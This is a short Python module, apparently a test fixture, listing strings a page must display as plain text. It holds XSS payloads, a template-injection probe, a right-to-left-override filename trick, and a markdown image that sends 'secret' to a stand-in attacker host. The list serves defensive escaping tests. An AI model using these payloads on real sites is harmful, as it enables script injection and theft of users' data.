"""Strings that a page must show as text, wherever they come from."""

from __future__ import annotations

PAYLOADS = [
    '"><img src=x onerror=alert(1)>',
    "');alert(1);//",
    "</script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example.test/?q=secret)",
    "<svg/onload=alert(1)>",
    "{{7*7}}",
    "\u202egnp.exe",
]
